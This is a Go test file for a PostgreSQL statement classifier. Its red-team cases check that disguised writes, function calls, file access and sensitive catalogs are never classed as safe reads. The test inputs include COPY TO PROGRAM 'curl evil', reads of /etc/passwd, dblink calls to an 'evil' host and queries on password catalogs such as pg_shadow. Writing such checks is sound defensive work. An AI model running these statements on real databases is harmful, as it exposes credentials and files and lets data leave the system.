package postgres

import (
	"slices"
	"testing"

	"github.com/gatestay/gatestay/libs/command"
)

// TestRedteam07_NoReadThatWrites: none of these is a read.
func TestRedteam07_NoReadThatWrites(t *testing.T) {
	for sql, want := range map[string]command.Class{
		"SELECT evil()":                                                           command.Unknown,
		"SELECT public.lower('x')":                                                command.Unknown,
		"SELECT db.pg_catalog.lower('x')":                                         command.Unknown,
		`SELECT "Lower"('x')`:                                                     command.Unknown,
		"SELECT pg_temp.lower('x')":                                               command.Unknown,
		"SELECT a OPERATOR(public.=) b FROM t":                                    command.Unknown,
		"SELECT a === b FROM t":                                                   command.Unknown,
		"SELECT a FROM t ORDER BY a USING ===":                                    command.Unknown,
		"SELECT 1 WHERE 1 OPERATOR(app.=) ANY (SELECT 2)":                         command.Unknown,
		"SELECT table_to_xml('customers', true, false, '')":                       command.Unknown,
		"SELECT pg_catalog.query_to_xml('delete from t', true, false, '')":        command.Unknown,
		"SELECT query_to_xml_and_xmlschema('delete from t', true, false, '')":     command.Unknown,
		"SELECT database_to_xml(true, false, '')":                                 command.Unknown,
		"SELECT schema_to_xml('public', true, false, '')":                         command.Unknown,
		"SELECT cursor_to_xml('c', 1, true, false, '')":                           command.Unknown,
		"SELECT * FROM ts_stat('select evil()')":                                  command.Unknown,
		"SELECT ts_rewrite('a'::tsquery, 'select evil()')":                        command.Unknown,
		"SELECT pg_input_is_valid('1', 'evil_domain')":                            command.Unknown,
		"SELECT nextval('s')":                                                     command.Write,
		"SELECT setval('s', 1)":                                                   command.Write,
		"SELECT pg_notify('c', 'x')":                                              command.Write,
		"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d":                   command.Write,
		"WITH d AS (SELECT 1), e AS (UPDATE t SET a = 1) SELECT * FROM d":         command.Write,
		"SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s": command.Write,
		"SELECT * FROM t FOR SHARE":                                               command.Write,
		"SELECT * FROM (SELECT * FROM t FOR UPDATE) s":                            command.Write,
		"SELECT * INTO x FROM t":                                                  command.DDL,
		"SELECT a INTO x FROM t UNION SELECT b FROM u":                            command.DDL,
		"CREATE TABLE x AS SELECT 1":                                              command.DDL,
		"EXPLAIN ANALYZE DELETE FROM t":                                           command.Write,
		"EXPLAIN (ANALYZE true) DELETE FROM t":                                    command.Write,
		"EXPLAIN (COSTS off, ANALYZE) INSERT INTO t VALUES (1)":                   command.Write,
		"EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1":                              command.DDL,
		"EXPLAIN SELECT evil()":                                                   command.Unknown,
		"MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE":            command.Write,
		"WITH m AS (MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m": command.Write,
		"DO 'begin end'":                     command.Unknown,
		"CALL p()":                           command.Unknown,
		"PREPARE p AS DELETE FROM t":         command.Write,
		"DECLARE c CURSOR FOR SELECT evil()": command.Unknown,
		"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'delete from t'": command.DDL,
		"SELECT TREAT(1 AS pg_sleep)":                                     command.Unknown,
		"SELECT (10::float8).pg_sleep":                                    command.Unknown,
		"SELECT c.setval FROM customers c":                                command.Write,
		"SELECT (SELECT 's'::regclass).nextval":                           command.Write,
		"SELECT * FROM t TABLESAMPLE evil (1)":                            command.Unknown,
	} {
		if f := one(t, sql); f.Class != want || f.Catalog {
			t.Errorf("%s: %s, catalog %v; want %s", sql, f.Class, f.Catalog, want)
		}
	}
}

// TestRedteam07_ACallAnywhere: a function is found wherever an expression can
// stand.
func TestRedteam07_ACallAnywhere(t *testing.T) {
	for _, sql := range []string{
		"SELECT 1 + evil()",
		"SELECT -evil()",
		"SELECT NOT evil()",
		"SELECT evil()::int",
		"SELECT evil() COLLATE \"C\"",
		"SELECT evil() IS NULL",
		"SELECT evil() IS TRUE",
		"SELECT evil() IS DISTINCT FROM 1",
		"SELECT a IS NOT DISTINCT FROM evil() FROM t",
		"SELECT lower(upper(evil()))",
		"SELECT lower(variadic ARRAY[evil()])",
		"SELECT lower(x => evil())",
		"SELECT count(*) FILTER (WHERE evil()) FROM t",
		"SELECT string_agg(a, ',' ORDER BY evil()) FROM t",
		"SELECT percentile_cont(evil()) WITHIN GROUP (ORDER BY a) FROM t",
		"SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY evil()) FROM t",
		"SELECT rank() OVER (PARTITION BY evil()) FROM t",
		"SELECT rank() OVER (ORDER BY evil()) FROM t",
		"SELECT sum(a) OVER (ROWS evil() PRECEDING) FROM t",
		"SELECT sum(a) OVER w FROM t WINDOW w AS (ORDER BY evil())",
		"SELECT CASE WHEN evil() THEN 1 END",
		"SELECT CASE evil() WHEN 1 THEN 1 END",
		"SELECT CASE 1 WHEN evil() THEN 1 ELSE 2 END",
		"SELECT CASE 1 WHEN 1 THEN evil() END",
		"SELECT CASE 1 WHEN 1 THEN 1 ELSE evil() END",
		"SELECT coalesce(a, evil()) FROM t",
		"SELECT greatest(1, evil())",
		"SELECT nullif(1, evil())",
		"SELECT ARRAY[evil()]",
		"SELECT ARRAY(SELECT evil())",
		"SELECT (ARRAY[1])[evil()]",
		"SELECT (ARRAY[1])[1:evil()]",
		"SELECT ROW(1, evil())",
		"SELECT (evil()).x",
		"SELECT (evil()).*",
		"SELECT (1, 2) = (1, evil())",
		"SELECT 1 IN (1, evil())",
		"SELECT evil() IN (SELECT 1)",
		"SELECT 1 = ANY (ARRAY[evil()])",
		"SELECT 1 = ALL (SELECT evil())",
		"SELECT EXISTS (SELECT evil())",
		"SELECT (SELECT evil())",
		"SELECT a BETWEEN 1 AND evil() FROM t",
		"SELECT a LIKE evil() FROM t",
		"SELECT a SIMILAR TO evil() FROM t",
		"SELECT a LIKE 'x' ESCAPE evil() FROM t",
		"SELECT now() AT TIME ZONE evil()",
		"SELECT extract(year FROM evil())",
		"SELECT substring(evil() FROM 1 FOR 2)",
		"SELECT trim(both evil() from 'x')",
		"SELECT overlay('a' PLACING evil() FROM 1)",
		"SELECT (a, b) OVERLAPS (c, evil()) FROM t",
		"SELECT xmlelement(name x, evil())",
		"SELECT xmlelement(name x, xmlattributes(evil() AS y))",
		"SELECT xmlforest(evil() AS y)",
		"SELECT xmlserialize(content evil() AS text)",
		"SELECT xmlroot(evil(), version '1.0')",
		"SELECT evil() IS DOCUMENT",
		"SELECT JSON_OBJECT('a': evil())",
		"SELECT JSON_ARRAY(evil())",
		"SELECT JSON_ARRAY(SELECT evil())",
		"SELECT JSON_ARRAYAGG(evil()) FROM t",
		"SELECT JSON_OBJECTAGG(a: evil()) FROM t",
		"SELECT JSON_VALUE(evil(), '$')",
		"SELECT JSON_VALUE(a, '$' PASSING evil() AS x) FROM t",
		"SELECT JSON_QUERY(a, '$' DEFAULT evil() ON ERROR) FROM t",
		"SELECT JSON_EXISTS(evil(), '$')",
		"SELECT JSON(evil())",
		"SELECT JSON_SCALAR(evil())",
		"SELECT JSON_SERIALIZE(evil())",
		"SELECT evil() IS JSON",
		"SELECT * FROM JSON_TABLE(evil(), '$' COLUMNS (a int PATH '$')) j",
		"SELECT * FROM JSON_TABLE('1', '$' PASSING evil() AS x COLUMNS (a int PATH '$')) j",
		"SELECT * FROM JSON_TABLE('1', '$' COLUMNS (a int PATH '$' DEFAULT evil() ON EMPTY)) j",
		"SELECT * FROM JSON_TABLE('1', '$' COLUMNS (NESTED '$' COLUMNS (a int PATH '$' DEFAULT evil() ON ERROR))) j",
		"SELECT * FROM XMLTABLE('/r' PASSING evil() COLUMNS a int) x",
		"SELECT * FROM XMLTABLE(evil() PASSING a COLUMNS a int) x, t",
		"SELECT * FROM XMLTABLE('/r' PASSING a COLUMNS a int PATH evil()) x, t",
		"SELECT * FROM XMLTABLE('/r' PASSING a COLUMNS a int DEFAULT evil()) x, t",
		"SELECT * FROM XMLTABLE(XMLNAMESPACES(evil() AS x), '/r' PASSING a COLUMNS a int) x, t",
		"SELECT GROUPING(evil()) FROM t GROUP BY evil()",
		"SELECT a FROM t WHERE evil()",
		"SELECT a FROM t GROUP BY evil()",
		"SELECT a FROM t GROUP BY CUBE (evil())",
		"SELECT a FROM t GROUP BY GROUPING SETS ((evil()))",
		"SELECT a FROM t GROUP BY a HAVING evil()",
		"SELECT a FROM t ORDER BY evil()",
		"SELECT a FROM t LIMIT evil()",
		"SELECT a FROM t OFFSET evil()",
		"SELECT a FROM t FETCH FIRST (evil()) ROWS ONLY",
		"SELECT DISTINCT ON (evil()) a FROM t",
		"SELECT * FROM evil()",
		"SELECT * FROM evil() WITH ORDINALITY",
		"SELECT * FROM ROWS FROM (lower('x'), evil())",
		"SELECT * FROM generate_series(1, evil())",
		"SELECT * FROM t, LATERAL evil(t.a)",
		"SELECT * FROM t, LATERAL (SELECT evil()) s",
		"SELECT * FROM t JOIN u ON evil()",
		"SELECT * FROM (t JOIN u ON evil()) AS j",
		"SELECT * FROM t TABLESAMPLE system (evil())",
		"SELECT * FROM t TABLESAMPLE system (1) REPEATABLE (evil())",
		"WITH c AS (SELECT evil()) SELECT 1",
		"WITH RECURSIVE c AS (SELECT 1 UNION SELECT evil() FROM c) SELECT 1",
		"SELECT 1 UNION SELECT evil()",
		"SELECT 1 ORDER BY (SELECT evil())",
		"VALUES (1), (evil())",
		"TABLE t ORDER BY evil()",
		"INSERT INTO t VALUES (evil())",
		"INSERT INTO t SELECT evil()",
		"INSERT INTO t (a[evil()]) VALUES (1)",
		"INSERT INTO t VALUES (1) ON CONFLICT (lower(evil())) DO NOTHING",
		"INSERT INTO t VALUES (1) ON CONFLICT (a) WHERE evil() DO NOTHING",
		"INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = evil()",
		"INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1 WHERE evil()",
		"INSERT INTO t VALUES (1) RETURNING evil()",
		"UPDATE t SET a = evil()",
		"UPDATE t SET (a, b) = (SELECT 1, evil())",
		"UPDATE t SET a[evil()] = 1",
		"UPDATE t SET a = 1 FROM evil()",
		"UPDATE t SET a = 1 WHERE evil()",
		"UPDATE t SET a = 1 RETURNING evil()",
		"DELETE FROM t USING evil()",
		"DELETE FROM t WHERE evil()",
		"DELETE FROM t RETURNING evil()",
		"MERGE INTO t USING evil() u ON true WHEN MATCHED THEN DELETE",
		"MERGE INTO t USING u ON evil() WHEN MATCHED THEN DELETE",
		"MERGE INTO t USING u ON t.id = u.id WHEN MATCHED AND evil() THEN DELETE",
		"MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = evil()",
		"MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED THEN INSERT VALUES (evil())",
		"MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE RETURNING evil()",
		"CREATE TABLE x AS SELECT evil()",
		"CREATE INDEX ON t (evil(a))",
		"CREATE INDEX ON t (a) WHERE evil()",
		"ALTER TABLE t ADD COLUMN c int DEFAULT evil()",
		"ALTER TABLE t ADD COLUMN c int GENERATED ALWAYS AS (evil()) STORED",
		"ALTER TABLE t ADD CHECK (evil())",
		"ALTER TABLE t ALTER COLUMN a TYPE int USING evil()",
		"PREPARE p AS SELECT evil()",
		"DECLARE c CURSOR FOR SELECT evil()",
		"EXPLAIN SELECT evil()",
		"COPY (SELECT evil()) TO STDOUT",
		"COPY t FROM STDIN WHERE evil()",
		"CALL p(evil())",
		"EXECUTE p(evil())",
	} {
		f := one(t, sql)
		if f.Class != command.Unknown || !slices.Contains(f.Functions, "evil") {
			t.Errorf("%s: class %s, functions %v", sql, f.Class, f.Functions)
		}
		if !f.IsUnknown("class") || !f.IsUnknown("objects") || f.Why == "" || f.Neutral || f.Catalog {
			t.Errorf("%s: unknown %v, why %q, neutral %v, catalog %v", sql, f.Unknown, f.Why, f.Neutral, f.Catalog)
		}
	}
}

// TestRedteam07_ATableAnywhere: a relation is found wherever a query can stand,
// and its access is right.
func TestRedteam07_ATableAnywhere(t *testing.T) {
	for _, sql := range []string{
		"SELECT * FROM secret",
		"TABLE secret",
		"SELECT (SELECT a FROM secret)",
		"SELECT ARRAY(SELECT a FROM secret)",
		"SELECT 1 WHERE EXISTS (TABLE secret)",
		"SELECT 1 IN (SELECT a FROM secret)",
		"SELECT 1 ORDER BY (SELECT a FROM secret)",
		"SELECT 1 LIMIT (SELECT a FROM secret)",
		"SELECT count(*) FILTER (WHERE EXISTS (TABLE secret))",
		"SELECT 1 FROM t JOIN secret USING (id)",
		"SELECT 1 FROM t NATURAL JOIN secret",
		"SELECT 1 FROM t CROSS JOIN LATERAL (SELECT * FROM secret) x",
		"SELECT 1 FROM generate_series(1, (SELECT a FROM secret))",
		"SELECT 1 FROM t JOIN u ON EXISTS (TABLE secret)",
		"SELECT 1 UNION TABLE secret",
		"(SELECT 1) EXCEPT (SELECT a FROM secret)",
		"WITH x AS (TABLE secret) SELECT 1",
		"WITH x AS (WITH y AS (TABLE secret) TABLE y) TABLE x",
		"WITH secret AS (TABLE secret) SELECT * FROM secret", // the inner one is the table
		"SELECT 1 FROM (WITH secret AS (SELECT 1) TABLE secret) s, secret",
		"WITH secret AS (SELECT 1) SELECT * FROM public.secret",
		"VALUES ((SELECT a FROM secret))",
		"INSERT INTO t TABLE secret",
		"INSERT INTO t VALUES ((SELECT a FROM secret))",
		"INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = (SELECT a FROM secret)",
		"INSERT INTO t VALUES (1) RETURNING (SELECT a FROM secret)",
		"UPDATE t SET a = (SELECT a FROM secret)",
		"UPDATE t SET (a, b) = (SELECT a, b FROM secret)",
		"UPDATE t SET a = 1 FROM secret",
		"UPDATE t SET a = 1 WHERE a IN (SELECT a FROM secret)",
		"DELETE FROM t USING secret",
		"DELETE FROM t RETURNING (SELECT a FROM secret)",
		"MERGE INTO t USING secret ON t.id = secret.id WHEN MATCHED THEN DELETE",
		"MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED THEN INSERT VALUES ((SELECT a FROM secret))",
		"CREATE TABLE x AS TABLE secret",
		"CREATE VIEW v AS TABLE secret",
		"CREATE MATERIALIZED VIEW v AS TABLE secret",
		"SELECT * INTO x FROM secret",
		"EXPLAIN TABLE secret",
		"PREPARE p AS TABLE secret",
		"DECLARE c CURSOR FOR TABLE secret",
		"COPY secret TO STDOUT",
		"COPY (TABLE secret) TO STDOUT",
		"SELECT JSON_ARRAY(SELECT a FROM secret)",
		"SELECT xmlelement(name x, (SELECT a FROM secret))",
		"CREATE FUNCTION f() RETURNS int RETURN (SELECT a FROM secret)",
		"CREATE RULE r AS ON INSERT TO t DO SELECT a FROM secret",
	} {
		f := one(t, sql)
		if !slices.ContainsFunc(f.Objects, func(o command.Object) bool { return o.Name == "secret" && o.Access == command.Read && !o.New }) {
			t.Errorf("%s: objects %v", sql, f.Objects)
		}
		if f.Catalog {
			t.Errorf("%s counts as a catalog read", sql)
		}
	}
}

// TestRedteam08_WayOutOfTheDatabase: files, programs, other servers, other
// sessions, locks and sleeping are never a read.
func TestRedteam08_WayOutOfTheDatabase(t *testing.T) {
	for _, sql := range []string{
		"COPY t TO PROGRAM 'curl evil'",
		"COPY t FROM PROGRAM 'curl evil'",
		"COPY (SELECT 1) TO PROGRAM 'curl evil'",
		"COPY t TO '/tmp/x'",
		"COPY t FROM '/etc/passwd'",
		"COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
		"SELECT lo_import('/etc/passwd')",
		"SELECT lo_export(1, '/tmp/x')",
		"SELECT * FROM dblink('host=evil', 'select 1') AS x(a int)",
		"SELECT public.dblink_exec('host=evil', 'select 1')",
		"SELECT pg_read_file('/etc/passwd')",
		"SELECT pg_read_binary_file('/etc/passwd')",
		"SELECT * FROM pg_ls_dir('/')",
		"SELECT * FROM pg_stat_file('/etc/passwd')",
		"SELECT pg_file_write('x', 'y', true)",
		"SELECT pg_sleep(10)",
		"SELECT pg_catalog.pg_sleep_for('1 hour')",
		"SELECT pg_terminate_backend(1)",
		"SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
		"SELECT pg_reload_conf()",
		"SELECT pg_switch_wal()",
		"SELECT pg_promote()",
		"SELECT pg_create_logical_replication_slot('x', 'pgoutput')",
		"SELECT * FROM pg_logical_slot_get_changes('x', null, null)",
		"SELECT pg_stat_reset()",
		"SELECT * FROM pg_stat_get_activity(null)",
		"SELECT setseed(0.5)",
		"SELECT inet_server_addr()",
	} {
		if f := one(t, sql); f.Class != command.Unknown && f.Class != command.Admin || f.Catalog || f.Neutral {
			t.Errorf("%s: class %s, catalog %v, neutral %v", sql, f.Class, f.Catalog, f.Neutral)
		}
	}
}

// TestRedteam08_LocksAreWrites: they keep others waiting, and touch no data.
// Migration tools take them, pg_dump exports its snapshot.
func TestRedteam08_LocksAreWrites(t *testing.T) {
	for _, sql := range []string{
		"SELECT pg_advisory_lock(1)", "SELECT pg_catalog.pg_try_advisory_xact_lock(1, 2)", "SELECT pg_advisory_unlock_all()", "SELECT pg_export_snapshot()",
		"SELECT name FROM customers WHERE pg_try_advisory_lock_shared(1)",
	} {
		if f := one(t, sql); f.Class != command.Write || f.Catalog || f.Neutral {
			t.Errorf("%s: class %s, catalog %v, neutral %v", sql, f.Class, f.Catalog, f.Neutral)
		}
	}
}

// TestRedteam08_SensitiveCatalogs: what holds secrets, samples of user data or
// other sessions' text is no harmless catalog.
func TestRedteam08_SensitiveCatalogs(t *testing.T) {
	for _, name := range []string{
		"pg_authid", "pg_shadow", "pg_stats", "pg_stats_ext", "pg_stats_ext_exprs", "pg_statistic",
		"pg_statistic_ext_data", "pg_largeobject", "pg_hba_file_rules", "pg_file_settings",
		"pg_user_mapping", "pg_user_mappings", "pg_subscription", "pg_stat_activity",
		"pg_stat_statements", "pg_prepared_statements", "pg_cursors", "pg_stat_wal_receiver",
		"information_schema.user_mapping_options", "pg_toast.pg_toast_1262",
	} {
		for _, sql := range []string{
			"SELECT * FROM " + name, "SELECT * FROM pg_class, " + name, "SELECT 1 WHERE EXISTS (TABLE " + name + ")",
		} {
			if one(t, sql).Catalog {
				t.Errorf("%s counts as a catalog read", sql)
			}
		}
	}
	for _, sql := range []string{
		"SELECT * FROM customers, pg_class", "SELECT * FROM pg_catalog.customers", "SELECT * FROM public.pg_class",
		"SELECT * FROM information_schema.customers", "SELECT * FROM pg_temp.pg_class",
	} {
		if one(t, sql).Catalog {
			t.Errorf("%s counts as a catalog read", sql)
		}
	}
}

// TestRedteam09_StatementsInsideStatements: SQL-level PREPARE is what it
// prepares; what EXECUTE and cursors run cannot be seen, and is unknown.
func TestRedteam09_StatementsInsideStatements(t *testing.T) {
	if f := one(t, "PREPARE p AS DELETE FROM customers"); f.Class != command.Write || f.Filtered || f.Verb != "prepare" {
		t.Errorf("PREPARE: class %s, filtered %v", f.Class, f.Filtered)
	}
	if f := one(t, "DECLARE c CURSOR FOR SELECT email FROM customers"); f.Class != command.Read || len(f.Objects) != 1 {
		t.Errorf("DECLARE: class %s, objects %v", f.Class, f.Objects)
	}
	for _, sql := range []string{
		"EXECUTE p", "EXECUTE p('x')", "EXPLAIN EXECUTE p", "EXPLAIN ANALYZE EXECUTE p", "CREATE TABLE t AS EXECUTE p",
		"FETCH ALL FROM c", "MOVE 1 FROM c", "DO $$ begin execute 'drop table t'; end $$",
	} {
		f := one(t, sql)
		if f.Class != command.Unknown || !f.IsUnknown("objects") || !f.IsUnknown("class") || f.Why == "" {
			t.Errorf("%s: class %s, unknown %v", sql, f.Class, f.Unknown)
		}
	}
}
